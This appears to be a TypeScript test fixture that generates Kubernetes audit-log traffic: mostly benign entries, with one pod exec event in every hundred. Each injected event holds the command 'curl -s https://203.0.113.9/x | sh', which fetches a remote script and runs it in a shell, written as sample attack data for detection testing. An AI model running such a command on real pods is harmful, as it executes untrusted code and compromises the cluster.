import { auditEntry } from '../../../local/scenarios/audit-entry.ts';
import { benignDay } from '../../fixtures/benign/day.ts';

const ATTACK = ['create', 'get'] as const;

/** The smallest day used. A smaller one would hold only people's entries, whose number does not shrink with the day. */
const DAY = 10_000;

/** Audit log entries as JSON texts: an even sample of a benign day, with one exec in each hundred. */
export const traffic = (count: number): string[] => {
  const day = [...benignDay({ seed: 1, entries: Math.max(count, DAY) })];
  const entries = Array.from({ length: count }, (_, n) => day[Math.floor((n * day.length) / count)]);
  return entries.map((entry, n) =>
    JSON.stringify(
      n % 100 === 50
        ? auditEntry({
            verb: ATTACK[n % 2] ?? 'create',
            resource: 'pods',
            subresource: 'exec',
            namespace: 'shop',
            name: `cart-${n}`,
            command: 'sh -c "curl -s https://203.0.113.9/x | sh"',
          })
        : entry,
    ),
  );
};
